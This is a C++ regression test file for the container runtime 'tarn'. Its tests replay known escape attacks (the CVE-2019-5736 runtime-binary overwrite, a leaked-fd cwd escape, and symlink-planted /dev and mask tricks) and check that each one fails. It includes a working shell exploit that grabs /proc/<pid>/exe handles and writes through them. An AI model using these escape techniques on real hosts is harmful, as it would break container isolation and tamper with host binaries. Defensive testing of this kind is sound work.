// Escape attempts from inside a default container (config as `tarn spec` writes it).
// Each test plays the attacker of one known runtime escape and asserts it fails and
// that the host is untouched afterwards.
#include <fcntl.h>
#include <limits.h>
#include <seccomp.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstring>
#include <thread>

#include "harness.hpp"
#include "oci/base.hpp"

using namespace tarn::test;
using nlohmann::json;

namespace {

std::string sha256(const std::string& path) {
    Result r = sh("sha256sum " + path);
    return r.out.substr(0, 64);
}

// A private copy of the tarn binary: an attack that works must not wreck the build.
std::string private_tarn(const Bundle& b) {
    std::string bin = b.scratch("bin") + "/tarn";
    EXPECT_EQ(sh(std::string("cp ") + TARN_BINARY + " " + bin).code, 0);
    return bin;
}

Result with_tarn(const std::string& bin, const Bundle& b, const std::string& args) {
    b.write();
    return sh("cd " + b.dir() + " && " + bin + " --root " + b.root() + " " + args);
}

int init_pid(const std::string& bin, const Bundle& b, const std::string& id) {
    Result r = with_tarn(bin, b, "state " + id);
    return json::parse(r.out).at("pid").get<int>();
}

void wait_for(const std::string& path, int tenths = 100) {
    for (int i = 0; i < tenths && !path_exists(path); ++i) usleep(100000);
}

// Every process this attacker can see: open its /proc/<pid>/exe (keeping the fd), and,
// once told to, write through /proc/self/fd to whatever file that was. This is the
// CVE-2019-5736 exploit in shell: the write only works after the binary stops running.
const char* kExeGrabber = R"(
    grab() {
        for e in /proc/[0-9]*/exe; do
            p=${e#/proc/}; p=${p%/exe}
            [ "$p" = "$$" ] && continue
            grep -q "^$p$" /out/seen 2>/dev/null && continue
            echo "$p" >> /out/seen
            t=$(readlink "$e" 2>/dev/null)
            case "$t" in /bin/busybox|/bin/sh|'') continue ;; esac
            (
                exec 5<"$e" || exit 0
                echo "open $p $t" >> /out/log
                while [ ! -e /out/write ]; do sleep 0.05; done
                if (echo pwned >> /proc/self/fd/5) 2>/dev/null; then echo "wrote $p" >> /out/log; fi
            ) 2>/dev/null &
        done
    }
)";

}  // namespace

// CVE-2019-5736: a container sharing a pid namespace with another container's parked
// init (between create and start) must not get a writable handle on the runtime binary.
TEST(Escape, ParkedInitInASharedPidNamespaceCannotExposeTheRuntime) {
    REQUIRE_ROOT();
    Bundle attacker;
    std::string bin = private_tarn(attacker);
    std::string before = sha256(bin);
    std::string out = attacker.scratch("out");
    attacker.config["mounts"].push_back(
        {{"destination", "/out"}, {"type", "bind"}, {"source", out}, {"options", {"rbind", "rw"}}});
    attacker.cmd(std::string(kExeGrabber) +
                 "touch /out/seen; touch /out/up; while [ ! -e /out/go ]; do sleep 0.05; done; grab; "
                 "touch /out/grabbed; sleep infinity");
    ASSERT_EQ(with_tarn(bin, attacker, "run -d --bundle " + attacker.dir() + " esc-a").code, 0);
    wait_for(out + "/up");
    int apid = init_pid(bin, attacker, "esc-a");

    Bundle victim;
    for (auto& n : victim.config["linux"]["namespaces"])
        if (n["type"] == "pid") n["path"] = "/proc/" + std::to_string(apid) + "/ns/pid";
    victim.cmd("true");
    Result c = with_tarn(bin, victim, "create --bundle " + victim.dir() + " esc-v");
    ASSERT_EQ(c.code, 0) << c.err;
    write_text(out + "/go", "");
    wait_for(out + "/grabbed");
    // The victim's parked init ran the runtime; now nothing runs it any more.
    EXPECT_EQ(with_tarn(bin, victim, "start esc-v").code, 0);
    usleep(300000);
    write_text(out + "/write", "");
    usleep(1000000);
    std::string log = read_text(out + "/log");
    with_tarn(bin, attacker, "delete -f esc-a");
    with_tarn(bin, victim, "delete -f esc-v");
    EXPECT_EQ(log.find("wrote"), std::string::npos) << log;
    EXPECT_EQ(sha256(bin), before) << "the runtime binary was overwritten from the container:\n" << log;
}

// CVE-2019-5736, the original form: `exec` of a script whose interpreter is
// /proc/self/exe runs the runtime binary as a container process, while a process in the
// container grabs every new /proc/<pid>/exe it sees and writes through it later.
TEST(Escape, ExecOfProcSelfExeScriptCannotOverwriteTheRuntime) {
    REQUIRE_ROOT();
    Bundle b;
    std::string bin = private_tarn(b);
    std::string before = sha256(bin);
    std::string out = b.scratch("out");
    write_text(out + "/evil", "#!/proc/self/exe\n", 0755);
    b.config["mounts"].push_back(
        {{"destination", "/out"}, {"type", "bind"}, {"source", out}, {"options", {"rbind", "rw"}}});
    b.cmd(std::string(kExeGrabber) +
          "touch /out/seen; touch /out/up; while [ ! -e /out/stop ]; do grab; done; "
          "touch /out/stopped; sleep infinity");
    ASSERT_EQ(with_tarn(bin, b, "run -d --bundle " + b.dir() + " esc-x").code, 0);
    wait_for(out + "/up");
    for (int i = 0; i < 15; ++i) with_tarn(bin, b, "exec esc-x /out/evil");
    // Also the plain exec path: the process joining the container is not dumpable.
    for (int i = 0; i < 5; ++i) with_tarn(bin, b, "exec esc-x sh -c 'sleep 0.2'");
    write_text(out + "/stop", "");
    wait_for(out + "/stopped");
    usleep(300000);
    write_text(out + "/write", "");
    usleep(1000000);
    std::string log = read_text(out + "/log");
    with_tarn(bin, b, "delete -f esc-x");
    EXPECT_EQ(log.find("wrote"), std::string::npos) << log;
    EXPECT_EQ(sha256(bin), before) << "the runtime binary was overwritten from the container:\n" << log;
}

namespace {

// Which steps of the switch to a sealed binary the kernel refuses (the fallbacks of
// runtime/sealed_exe.cpp): PR_SET_MM_MAP (tarn then re-execs) and the detached
// read-only bind (tarn then copies itself into a sealed memfd).
struct Refuse {
    bool set_mm = false, bind = false;
};

// Runs `tarn args` with those steps refused by a seccomp filter (inherited by the
// container too, where it changes nothing).
Result with_tarn_refusing(const std::string& bin, const Bundle& b, const std::string& args, Refuse refuse) {
    b.write();
    std::string out = b.scratch("refuse") + "/out", err = b.scratch("refuse") + "/err";
    pid_t pid = ::fork();
    if (pid == 0) {
        scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
        seccomp_attr_set(ctx, SCMP_FLTATR_CTL_NNP, 0);
        if (refuse.set_mm)
            seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(prctl), 1, SCMP_A0(SCMP_CMP_EQ, PR_SET_MM));
        if (refuse.bind)  // exactly the sealed binary's open_tree, not the mounts'
            seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EPERM), SCMP_SYS(open_tree), 1,
                             SCMP_A2(SCMP_CMP_EQ, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH));
        if (seccomp_load(ctx) < 0) ::_exit(125);
        std::string cmd = "cd " + b.dir() + " && " + bin + " --root " + b.root() + " " + args + " >" + out +
                          " 2>" + err;
        ::execl("/bin/sh", "sh", "-c", cmd.c_str(), nullptr);
        ::_exit(127);
    }
    int status = 0;
    ::waitpid(pid, &status, 0);
    return {WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status), read_text(out), read_text(err)};
}

// A handle on the parked init's /proc/<pid>/exe, taken by the host's root even, cannot
// be reopened for writing once the runtime has stopped running it (EROFS through the
// read-only bind, EPERM from a sealed memfd, ETXTBSY while it runs).
void expect_parked_binary_unwritable(const std::string& bin, const Bundle& b, const std::string& id, Refuse refuse,
                                     const std::string& exe_link, bool data_from_file) {
    std::string before = sha256(bin);
    ASSERT_EQ(with_tarn_refusing(bin, b, "create --bundle " + b.dir() + " " + id, refuse).code, 0);
    int pid = init_pid(bin, b, id);
    std::string proc = "/proc/" + std::to_string(pid);
    char link[PATH_MAX] = {};
    ASSERT_GT(::readlink((proc + "/exe").c_str(), link, sizeof link - 1), 0);
    EXPECT_EQ(std::string(link).rfind(exe_link, 0), 0u) << link;
    // Which way the switch went: a re-exec maps the writable data from the file, the
    // in-place switch leaves an anonymous copy.
    bool file_data = false;
    std::string maps = read_text(proc + "/maps");
    for (std::string_view line : tarn::lines(maps))
        if (line.find(" rw-p ") != std::string_view::npos && line.ends_with(" " + std::string(link)))
            file_data = true;
    EXPECT_EQ(file_data, data_from_file) << maps;
    int held = ::open((proc + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
    ASSERT_GE(held, 0);
    with_tarn(bin, b, "delete -f " + id);
    int w = ::open(("/proc/self/fd/" + std::to_string(held)).c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
    int open_errno = errno;
    bool wrote = false;
    if (w >= 0) {
        wrote = ::write(w, "pwned", 5) == 5;
        ::close(w);
    } else {
        EXPECT_TRUE(open_errno == EROFS || open_errno == EPERM || open_errno == ETXTBSY) << strerror(open_errno);
    }
    ::close(held);
    EXPECT_FALSE(wrote);
    EXPECT_EQ(sha256(bin), before);
}

}  // namespace

TEST(Escape, ParkedInitsBinaryCannotBeReopenedForWriting) {
    REQUIRE_ROOT();
    Bundle b;
    std::string bin = private_tarn(b);
    b.cmd("true");
    expect_parked_binary_unwritable(bin, b, "esc-r", {}, "/", false);
}

// The same on each fallback: the re-exec from the bind, the memfd switched to in
// place, the re-exec from the memfd.
TEST(Escape, ParkedInitsBinaryIsSealedOnEveryFallback) {
    REQUIRE_ROOT();
    Bundle b;
    std::string bin = private_tarn(b);
    b.cmd("true");
    expect_parked_binary_unwritable(bin, b, "esc-f1", {.set_mm = true, .bind = false}, "/", true);
    expect_parked_binary_unwritable(bin, b, "esc-f2", {.set_mm = false, .bind = true}, "/memfd:tarn", false);
    expect_parked_binary_unwritable(bin, b, "esc-f3", {.set_mm = true, .bind = true}, "/memfd:tarn", true);
}

// CVE-2024-21626: a cwd through a leaked fd would start the workload in the host's tree.
TEST(Escape, CwdThroughProcSelfFdCannotReachTheHost) {
    REQUIRE_ROOT();
    Bundle b;
    std::string marker = b.scratch("host-marker");
    std::string climb = "../../../../../../../../../..";
    for (int n = 3; n <= 10; ++n) {
        b.config["process"]["cwd"] = "/proc/self/fd/" + std::to_string(n);
        b.cmd("pwd; [ -e " + climb + marker + " ] && echo ESCAPED; true");
        Result r = sh("exec 3</ 4</ 5</tmp 6</ 7</ 8</ 9</; " + std::string(TARN_BINARY) + " --root " +
                      b.root() + " run --bundle " + b.dir() + " cwd" + std::to_string(n));
        if (r.code == 0) {
            EXPECT_EQ(r.out.find("ESCAPED"), std::string::npos) << "fd " << n << ": " << r.out;
            EXPECT_EQ(r.out.rfind("/", 0), 0u) << "fd " << n << ": cwd outside the root: " << r.out;
        } else {
            EXPECT_NE(r.err.find("cwd"), std::string::npos) << r.err;
        }
    }
}

TEST(Escape, ExecCwdThroughProcSelfFdCannotReachTheHost) {
    REQUIRE_ROOT();
    Bundle b;
    std::string marker = b.scratch("host-marker");
    std::string climb = "../../../../../../../../../..";
    b.cmd("sleep infinity");
    ASSERT_EQ(b.tarn({"run", "-d", "--bundle", b.dir(), "cwdx"}).code, 0);
    for (int n = 3; n <= 10; ++n) {
        Result r = sh("cd " + b.dir() + "; exec 3</ 4</ 5</tmp 6</ 7</ 8</ 9</; " + std::string(TARN_BINARY) +
                      " --root " + b.root() + " exec --cwd /proc/self/fd/" + std::to_string(n) +
                      " cwdx sh -c 'pwd; [ -e " + climb + marker + " ] && echo ESCAPED; true'");
        if (r.code == 0) {
            EXPECT_EQ(r.out.find("ESCAPED"), std::string::npos) << "fd " << n << ": " << r.out;
            EXPECT_EQ(r.out.rfind("/", 0), 0u) << "fd " << n << ": " << r.out;
        }
    }
    b.tarn({"delete", "-f", "cwdx"});
}

// Directory fds the caller leaks (without O_CLOEXEC) never reach an exec'd process.
TEST(Escape, ExecLeaksNoCallerFd) {
    REQUIRE_ROOT();
    Bundle b;
    b.cmd("sleep infinity");
    ASSERT_EQ(b.tarn({"run", "-d", "--bundle", b.dir(), "fdx"}).code, 0);
    Result r =
        sh("cd " + b.dir() + "; exec 3</ 4</ 7</tmp; " + std::string(TARN_BINARY) + " --root " + b.root() +
           " exec --preserve-fds 1 fdx sh -c 'for i in 0 1 2 3 4 5 6 7 8 9 10 11 12; do "
           "[ -e /proc/self/fd/$i ] && echo \"$i $(readlink /proc/self/fd/$i)\"; done; true'");
    b.tarn({"delete", "-f", "fdx"});
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_NE(r.out.find("\n3 "), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find("\n4 "), std::string::npos) << "fd 4 leaked:\n" << r.out;
    EXPECT_EQ(r.out.find("\n7 "), std::string::npos) << "fd 7 leaked:\n" << r.out;
    EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 4) << r.out;
}

namespace {

// A bundle with its own copy of the busybox rootfs, for tests that plant files in it.
std::string own_rootfs(Bundle& b) {
    std::string rootfs = b.scratch("ownroot");
    EXPECT_EQ(sh("cp -a " + busybox_rootfs() + "/. " + rootfs).code, 0);
    b.config["root"]["path"] = rootfs;
    return rootfs;
}

// The image brings its own /dev: no tmpfs is mounted there.
void image_dev(Bundle& b) {
    json kept = json::array();
    for (auto& m : b.config["mounts"])
        if (m["destination"] != "/dev") kept.push_back(m);
    b.config["mounts"] = kept;
}

}  // namespace

// CVE-2025-31133: with /dev from the image, /dev/null is a symlink to a writable proc
// file; masking /proc/kcore with "it" would bind that file there instead.
TEST(Escape, MaskSourceMustBeTheNullDevice) {
    REQUIRE_ROOT();
    Bundle b;
    std::string rootfs = own_rootfs(b);
    image_dev(b);
    ::mkdir((rootfs + "/dev").c_str(), 0755);
    ::unlink((rootfs + "/dev/null").c_str());
    ASSERT_EQ(::symlink("/proc/sys/kernel/hostname", (rootfs + "/dev/null").c_str()), 0);
    b.config["hostname"] = "redirected-mask";
    b.config["linux"]["maskedPaths"] = {"/proc/kcore", "/proc/timer_list"};
    Result r = b.cmd("cat /proc/timer_list; echo end").run("mask-src");
    EXPECT_EQ(r.out.find("redirected-mask"), std::string::npos)
        << "the mask bound the symlink's target: " << r.out;
    if (r.code != 0) {
        EXPECT_NE(r.err.find("/dev/null"), std::string::npos) << r.err;
    }
}

// A device path in an image-provided /dev that is a symlink to a host file: mknod must
// not follow it, and the host file stays as it was.
TEST(Escape, DeviceNodeIsNotCreatedThroughAPlantedSymlink) {
    REQUIRE_ROOT();
    Bundle b;
    std::string rootfs = own_rootfs(b);
    image_dev(b);
    std::string victim = b.scratch("victim") + "/file";
    write_text(victim, "host data\n");
    ::mkdir((rootfs + "/dev").c_str(), 0755);
    ASSERT_EQ(::symlink(victim.c_str(), (rootfs + "/dev/mynull").c_str()), 0);
    b.config["linux"]["devices"] = {{{"type", "c"}, {"path", "/dev/mynull"}, {"major", 1}, {"minor", 3}}};
    // The image's /dev has no null device to mask with.
    b.config["linux"]["maskedPaths"] = json::array();
    Result r = b.cmd("stat -c '%F %t:%T' /dev/mynull").run("dev-link");
    EXPECT_EQ(r.out, "character special file 1:3\n") << r.err;
    struct stat st;
    ASSERT_EQ(::lstat(victim.c_str(), &st), 0);
    EXPECT_TRUE(S_ISREG(st.st_mode));
    EXPECT_EQ(read_text(victim), "host data\n");
}

// /dev itself planted as a symlink to a host directory: the /dev tmpfs and every device
// land inside the rootfs, nothing is created in the host directory.
TEST(Escape, DevSymlinkToAHostDirectoryStaysInside) {
    REQUIRE_ROOT();
    Bundle b;
    std::string rootfs = own_rootfs(b);
    std::string hostdir = b.scratch("hostdev");
    sh("rm -rf " + rootfs + "/dev");
    ASSERT_EQ(::symlink(hostdir.c_str(), (rootfs + "/dev").c_str()), 0);
    Result r = b.cmd("echo x > /dev/null && echo ok").run("dev-dir");
    EXPECT_EQ(r.out, "ok\n") << r.err;
    Result ls = sh("ls -A " + hostdir);
    EXPECT_EQ(ls.out, "") << "created on the host: " << ls.out;
}

// A bind target under a planted symlink to a host directory: the directories and the
// file the bind needs are created inside the rootfs, not on the host.
TEST(Escape, BindTargetUnderAPlantedSymlinkStaysInside) {
    REQUIRE_ROOT();
    Bundle b;
    std::string rootfs = own_rootfs(b);
    std::string hostdir = b.scratch("hostdir");
    std::string src = b.scratch("src") + "/file";
    write_text(src, "bound\n");
    ASSERT_EQ(::symlink(hostdir.c_str(), (rootfs + "/mnt/link").c_str()) == 0 ||
                  (::mkdir((rootfs + "/mnt").c_str(), 0755) == 0 &&
                   ::symlink(hostdir.c_str(), (rootfs + "/mnt/link").c_str()) == 0),
              true);
    b.config["mounts"].push_back({{"destination", "/mnt/link/sub/file"},
                                  {"type", "bind"},
                                  {"source", src},
                                  {"options", {"bind", "ro"}}});
    Result r = b.cmd("cat /mnt/link/sub/file").run("bind-link");
    EXPECT_EQ(r.out, "bound\n") << r.err;
    EXPECT_FALSE(path_exists(hostdir + "/sub")) << "created on the host";
    EXPECT_TRUE(path_exists(rootfs + hostdir + "/sub/file"));
}

// What a default container may not do to the host kernel: its capabilities, no_new_privs,
// and the read-only and masked parts of /proc and /sys as `tarn spec` configures them.
TEST(Escape, DefaultContainerCannotTouchTheKernel) {
    REQUIRE_ROOT();
    Bundle b;
    std::string sysrq_before = read_text("/proc/sys/kernel/sysrq");
    Result r = b.cmd(
                    "grep -E '^(CapEff|CapBnd|CapAmb|NoNewPrivs):' /proc/self/status; "
                    "echo 0 > /proc/sys/kernel/sysrq 2>/dev/null && echo sysctl-written; "
                    "echo h > /proc/sysrq-trigger 2>/dev/null && echo sysrq-written; "
                    "echo x > /sys/kernel/uevent_helper 2>/dev/null && echo sys-written; "
                    "mount -t tmpfs none /mnt 2>/dev/null && echo mounted; "
                    "echo junk > /dev/shm/m.ko; insmod /dev/shm/m.ko 2>&1 | grep -q 'not permitted' && echo "
                    "insmod-eperm; "
                    "insmod /dev/shm/m.ko 2>/dev/null && echo module-loaded; "
                    "cat /proc/kcore 2>/dev/null | wc -c; "
                    "ls /proc | grep -c '^[0-9]'")
                   .run("kern");
    ASSERT_EQ(r.code, 0) << r.err;
    // The spec's default set: AUDIT_WRITE, KILL, NET_BIND_SERVICE.
    EXPECT_NE(r.out.find("CapEff:\t0000000020000420"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("CapBnd:\t0000000020000420"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("CapAmb:\t0000000000000000"), std::string::npos) << r.out;
    EXPECT_NE(r.out.find("NoNewPrivs:\t1"), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find("-written"), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find("mounted"), std::string::npos) << r.out;
    EXPECT_EQ(r.out.find("module-loaded"), std::string::npos) << r.out;
    // init_module checks CAP_SYS_MODULE first; a kernel built without modules says ENOSYS.
    if (path_exists("/proc/modules")) {
        EXPECT_NE(r.out.find("insmod-eperm"), std::string::npos) << r.out;
    }
    // /proc/kcore is masked (reads empty); only the container's own processes are
    // visible, so no host process can be ptraced (sh, grep/ls, the pipeline's other half).
    EXPECT_NE(r.out.find("\n0\n"), std::string::npos) << r.out;
    int visible = std::stoi(r.out.substr(r.out.rfind('\n', r.out.size() - 2) + 1));
    EXPECT_LE(visible, 3) << r.out;
    EXPECT_EQ(read_text("/proc/sys/kernel/sysrq"), sysrq_before);
}

// CVE-2025-52881 class: a /proc that is not procfs (here a bind of a host directory)
// must not take the runtime's writes meant for the kernel.
TEST(Escape, SysctlIsWrittenOnlyToProcfs) {
    REQUIRE_ROOT();
    Bundle b;
    std::string fake = b.scratch("fakeproc");
    ASSERT_EQ(sh("mkdir -p " + fake + "/sys/net/ipv4 && echo 0 > " + fake + "/sys/net/ipv4/ip_forward").code,
              0);
    for (auto& m : b.config["mounts"])
        if (m["destination"] == "/proc")
            m = {{"destination", "/proc"}, {"type", "bind"}, {"source", fake}, {"options", {"rbind", "rw"}}};
    b.config["linux"]["sysctl"] = {{"net.ipv4.ip_forward", "1"}};
    Result r = b.cmd("true").run("fakeproc");
    EXPECT_NE(r.code, 0);
    EXPECT_NE(r.err.find("not on procfs"), std::string::npos) << r.err;
    EXPECT_EQ(read_text(fake + "/sys/net/ipv4/ip_forward"), "0\n");
}

// A masked or read-only path that is a symlink in the image is not followed: the mask
// must not land on what it points to (a host path, or another file of the container).
TEST(Escape, MaskedAndReadonlyPathsDoNotFollowSymlinks) {
    REQUIRE_ROOT();
    Bundle b;
    std::string rootfs = own_rootfs(b);
    std::string victim = b.scratch("victim") + "/shadow";
    write_text(victim, "host secret\n");
    ASSERT_EQ(::symlink(victim.c_str(), (rootfs + "/etc/host-link").c_str()), 0);
    ASSERT_EQ(::symlink("/etc/passwd", (rootfs + "/etc/passwd-link").c_str()), 0);
    ASSERT_EQ(::symlink("/etc", (rootfs + "/etc-link").c_str()), 0);
    b.config["root"]["readonly"] = false;
    b.config["linux"]["maskedPaths"] = {"/etc/host-link", "/etc/passwd-link"};
    b.config["linux"]["readonlyPaths"] = {"/etc-link"};
    Result r = b.cmd("grep -c root /etc/passwd; touch /etc/rw && echo etc-writable").run("mask-link");
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_EQ(r.out, "1\netc-writable\n") << "a mask or read-only bind followed a symlink";
    EXPECT_EQ(read_text(victim), "host secret\n");
}
